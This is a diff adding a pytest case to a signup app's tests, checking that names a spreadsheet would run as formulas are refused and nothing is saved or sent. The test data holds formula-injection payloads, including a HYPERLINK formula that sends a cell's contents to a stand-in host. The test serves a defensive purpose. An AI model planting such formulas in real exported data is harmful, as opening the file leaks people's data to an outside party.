@@ -444,6 +444,19 @@ def test_a_name_with_a_control_character_is_asked_again_for_that(tmp_path: Path)
     assert (row.email, row.name) == ("bob@example.org", "Bob Smith")
 
 
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("https://x.example.com/?"&A1)', "+1+2", "-2+3", "@SUM(1)"]
+)
+def test_a_name_a_spreadsheet_would_run_is_refused(tmp_path: Path, name: str) -> None:
+    """A name from the form that a spreadsheet reads as a formula is asked again: nothing is
+    written to the list (which people open in one) and nothing is sent."""
+    root = folder_with(tmp_path)
+    app, _ = app_for(root)
+    answer = sign_up(app, "ann@example.org", name=name)
+    assert answer.status_code == 400 and "at its start" in answer.text
+    assert statuses(root) == {} and outbox(root) == []
+
+
 def test_signup_off_means_no_form(tmp_path: Path) -> None:
     """[signup] enabled = false: /subscribe is 404; unsubscribe still works."""
     app, _ = app_for(folder_with(tmp_path, "enabled = false"))
